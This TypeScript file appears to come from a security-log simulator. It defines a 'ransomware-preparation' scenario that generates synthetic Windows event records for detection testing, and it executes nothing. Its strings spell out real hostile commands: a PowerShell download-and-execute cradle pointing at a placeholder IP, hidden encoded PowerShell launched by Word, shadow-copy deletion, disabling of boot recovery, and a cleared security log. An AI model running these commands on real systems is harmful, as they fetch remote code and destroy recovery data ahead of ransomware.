import type { Envelope } from '../../../contract/envelope.js';
import { fileServers, type Host, workstations } from '../city.js';
import { windowsRecord } from '../records.js';
import { processData, recordId, security, userOf } from '../windows-traffic.js';
import { type Attack, minute, second } from './attack.js';

const system32 = 'C:\\Windows\\System32\\';

/** Encoded PowerShell on a workplace; then the file server's shadow copies and its security log are deleted. */
export const ransomware: Attack = {
  id: 'ransomware-preparation',
  records(start, random) {
    const desktop = random.pick(workstations);
    const server = fileServers[0]!;
    const person = userOf(desktop);
    const records: Envelope[] = [];
    const run = (time: number, host: Host, image: string, commandLine: string, parent: string): void => {
      const data = processData(person, image, commandLine, parent, random);
      records.push(
        windowsRecord(time, host, { ...security, id: 4688, recordId: recordId(time, random), data }),
      );
    };
    const powershell = `${system32}WindowsPowerShell\\v1.0\\powershell.exe`;
    const script = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.77/a.ps1')";
    const encoded = Buffer.from(script, 'utf16le').toString('base64');
    const winword = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE';
    run(start, desktop, powershell, `powershell.exe -NoP -NonI -W Hidden -Enc ${encoded}`, winword);
    const later = start + 4 * minute;
    run(
      later,
      server,
      `${system32}vssadmin.exe`,
      'vssadmin.exe delete shadows /all /quiet',
      `${system32}cmd.exe`,
    );
    const bcdedit = 'bcdedit.exe /set {default} recoveryenabled No';
    run(later + 15 * second, server, `${system32}bcdedit.exe`, bcdedit, `${system32}cmd.exe`);
    const end = later + 40 * second;
    records.push(
      windowsRecord(end, server, {
        channel: 'Security',
        provider: 'Microsoft-Windows-Eventlog',
        id: 1102,
        userData: true,
        recordId: recordId(end, random),
        data: {
          SubjectUserSid: person.sid,
          SubjectUserName: person.account,
          SubjectDomainName: 'STADT',
          SubjectLogonId: `0x${random.hex(6)}`,
        },
      }),
    );
    return records;
  },
};
